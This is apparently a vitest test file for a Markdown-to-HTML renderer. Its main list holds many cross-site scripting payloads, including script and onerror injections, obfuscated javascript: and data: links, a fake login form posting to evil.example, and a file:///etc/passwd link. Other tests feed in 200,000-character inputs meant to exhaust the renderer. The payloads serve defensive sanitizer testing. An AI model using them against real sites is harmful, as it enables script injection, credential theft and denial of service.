import { subscribe, unsubscribe } from "node:diagnostics_channel";
import { describe, expect, test } from "vitest";
import { orAsTyped, renderMarkdown, textOfHtml } from "#app/content/markdown.server.ts";
import { unrendered } from "#app/content/unrendered.ts";

const backticks = "```";

const hostile = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" //',
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
  "<style>* { display: none }</style>",
  "<div style='position:fixed;inset:0'>over everything</div>",
  "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
  "<a href='javascript:alert(1)'>x</a>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php <script>alert(1)</script> ?>",
  "<b onmouseover=alert(1)>unclosed",
  "</p></div></main><script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#106;avascript&colon;alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73cript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](%6aavascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "[x]\n\n[x]: javascript:alert(1)",
  "[x][y]\n\n[y]: data:text/html,x",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/pixel.png)",
  '![x" onerror="alert(1)](https://evil.example/p.png)',
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  "[x](https://a.example 't\" onmouseover=\"alert(1)')",
  '[x](https://a.example/"onmouseover="alert(1))',
  "[<script>alert(1)</script>](https://a.example)",
  "`<script>alert(1)</script>`",
  `${backticks}"><script>alert(1)</script>\n<script>alert(1)</script>\n${backticks}`,
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "# <img src=x onerror=alert(1)>",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\u0000<script\u0000>alert(1)</script>",
  "<\u0000script>alert(1)</script>",
];

const tagsOf = (html: string) => html.match(/<[^>]*>/g) ?? [];
const safeTag =
  /^<(?:\/?(?:p|br|hr|strong|em|del|code|pre|blockquote|ul|ol|li|table|thead|tbody|tr|td|th|div|h[2-6]|a)(?: \/)?|ol start="\d+"|li value="\d+"|p class="app-spaced"|th scope="col"|h[2-6] id="[^"]*"|div class="app-scroll" tabindex="0" role="group" aria-label="Table"|a href="(?:https?:\/\/|mailto:)[^"]*"(?: title="[^"]*")?(?: rel="nofollow ugc noopener")?)>$/;

describe.each(["public", "portal"] as const)("Markdown from the %s", (source) => {
  test.each(hostile)("leaves nothing harmful of %j", (markdown) => {
    for (const tag of tagsOf(renderMarkdown(markdown, source))) expect(tag).toMatch(safeTag);
  });

  test("shows HTML as it was typed", () => {
    expect(renderMarkdown("below <b>5 kg</b>", source)).toBe("<p>below &lt;b&gt;5 kg&lt;/b&gt;</p>\n");
  });

  test("does not take indented text for code", () => {
    expect(renderMarkdown("        (a) indented", source)).not.toContain("<pre>");
  });

  test("removes what would turn the reading order of the page", () => {
    expect(renderMarkdown("safe \u202etxt.exe\u2066 end\u0000", source)).toBe("<p>safe txt.exe end</p>\n");
  });
});

test("shows an image as its description", () => {
  expect(renderMarkdown("![A chart](https://a.example/chart.png)", "portal")).toBe("<p>A chart</p>\n");
});

test("shows a task list without form inputs", () => {
  const html = renderMarkdown("- [ ] notify\n- [x] license", "portal");
  expect(html).toContain("<li>☐ notify</li>");
  expect(html).toContain("<li>☑ license</li>");
});

test("lets a wide table be scrolled by keyboard", () => {
  const html = renderMarkdown("| Item | Limit |\n|---|--:|\n| 3A001 | 40 |", "portal");
  expect(html).toContain('<div class="app-scroll" tabindex="0" role="group" aria-label="Table"><table>');
  expect(html).toContain('<th scope="col" class="app-align-right">Limit</th>');
  expect(html).toContain('<td class="app-align-right">40</td>');
});

test("links of the public are followed by no search engine and know no opener", () => {
  const rel = 'rel="nofollow ugc noopener"';
  expect(renderMarkdown("https://a.example", "public")).toContain(`<a href="https://a.example" ${rel}>`);
  expect(renderMarkdown("<a@b.example>", "public")).toContain(`&lt;<a href="mailto:a@b.example" ${rel}>`);
  expect(renderMarkdown("[a](/guidance)", "public")).toBe("<p>[a](/guidance)</p>\n");
});

test("links of the portal may lead to its own pages", () => {
  expect(renderMarkdown("[a](/guidance#top)", "portal")).toBe('<p><a href="/guidance#top">a</a></p>\n');
});

test("headings of the portal begin below the page's title and have ids of their own", () => {
  const html = renderMarkdown("# Réponse\n\n## Grounds\n\n## Grounds", "portal");
  expect(html).toContain('<h2 id="reponse">Réponse</h2>');
  expect(html).toContain('<h2 id="grounds">');
  expect(html).toContain('<h2 id="grounds-2">');
});

const length = 200_000;
const filled = (unit: string) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
const endless = [
  ">",
  "> ",
  "- ",
  "1. ",
  "> - ",
  "+ * - ",
  "[",
  "![",
  "[a](b",
  "[a](https://b",
  "[a ",
  "*",
  "*a ",
  "**a *b ",
  "_a",
];
const more = [
  "a\u00a0*",
  "*a*",
  "~~a ",
  "`a ",
  "<",
  "<a ",
  "<!--",
  "&#",
  "a@b.",
  "www.",
  "|a",
  "|a|\n",
  "\\*",
  "x",
];

/** A table whose cells are nearly all left out, of which renderers make rows as wide as the head. */
const hollowTable = (indent: string, columns = 6000) =>
  ["|a".repeat(columns), "|-".repeat(columns), ...Array(columns).fill("x")]
    .map((line) => `${indent}${line}\n`)
    .join("");

describe("text made to exhaust the renderer", () => {
  test.each([...endless, ...more])(
    "does so in vain with 200,000 characters of %j",
    { timeout: 60_000 },
    (unit) => {
      for (const source of ["public", "portal"] as const)
        expect(renderMarkdown(filled(unit), source).length).toBeGreaterThan(0);
    },
  );

  test.each([
    ["many paragraphs of emphasis", `${"a\u00a0*".repeat(660)}\n\n`.repeat(100)],
    ["lines that continue a list", `- a\n${"b\n".repeat(length / 2)}`],
    [
      "lists nested by indentation",
      Array.from({ length: 440 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n"),
    ],
    ["a wide table", `${"|a".repeat(25_000)}\n${"|-".repeat(25_000)}\n${"|a".repeat(25_000)}`],
    ["a wide head over many short rows", hollowTable("")],
    ["the same in a quote", hollowTable("> ")],
    ["many small tables of short rows", `${hollowTable("", 14)}\n`.repeat(900)],
    ["reference links", `[a]: https://b.example\n\n${"[a] ".repeat(length / 4)}`],
  ])("does so in vain with %s", { timeout: 60_000 }, (_, markdown) => {
    for (const source of ["public", "portal"] as const)
      expect(renderMarkdown(markdown, source)).toContain("a");
  });

  test("keeps a table that leaves some cells out, and one with a line of text below", () => {
    const sparse = `| a | b | c | d |\n|---|---|---|---|\n${"| 1 | 2 |\n".repeat(100)}`;

    expect(renderMarkdown(sparse, "portal").match(/<tr>/g)).toHaveLength(101);
    expect(renderMarkdown("> | a | b |\n> |---|---|\n> | 1 | 2 |\n>\n> x", "portal")).toContain("<td>2</td>");
  });

  test("keeps eight levels of nesting and the words beneath", () => {
    const html = renderMarkdown(`${">".repeat(10_000)} the words`, "portal");
    expect(html.match(/<blockquote>/g)).toHaveLength(8);
    expect(html).toContain("the words");
  });
});

test("plain text has the words without their markup", () => {
  const markdown =
    "# Title\n\nA **bold** [link](https://a.example) & <b>.\n\n| a | b |\n|---|---|\n| 1 | 2 |";
  expect(textOfHtml(renderMarkdown(markdown, "portal"))).toBe("Title\nA bold link & <b>.\na b\n1 2");
});

describe("Markdown of the portal", () => {
  test("keeps the numbers of a list", () => {
    const html = renderMarkdown("3. Fine.\n7. Not.\n8. Nor this.", "portal");
    expect(html).toBe('<ol start="3">\n<li>Fine.</li>\n<li value="7">Not.</li>\n<li>Nor this.</li>\n</ol>\n');
  });

  test("loses no list of sources, and no stars and tildes of figures", () => {
    const html = renderMarkdown("~12k~ of 5*3*2\n\n[1]: https://a.example/x.pdf", "portal");
    expect(html).toContain("<p>~12k~ of 5*3*2</p>");
    expect(html).toContain('<p>[1]: <a href="https://a.example/x.pdf">https://a.example/x.pdf</a></p>');
  });

  test("sets off what stands between marks", () => {
    expect(renderMarkdown("*one* **two** ~~three~~ これは*四*です", "portal")).toBe(
      "<p><em>one</em> <strong>two</strong> <del>three</del> これは<em>四</em>です</p>\n",
    );
  });
});

test("a text that cannot be rendered is shown as it was typed, and whoever keeps the log is told", () => {
  const told: unknown[] = [];
  const listen = (error: unknown) => told.push(error);
  const failure = new Error("The renderer failed");
  subscribe(unrendered, listen);

  const shown = orAsTyped("**So** <b>\n\nand so", () => {
    throw failure;
  });

  unsubscribe(unrendered, listen);
  expect(shown).toEqual({ html: "<p>**So** &lt;b&gt;</p>\n<p>and so</p>\n", isAsTyped: true });
  expect(told).toEqual([failure]);
});
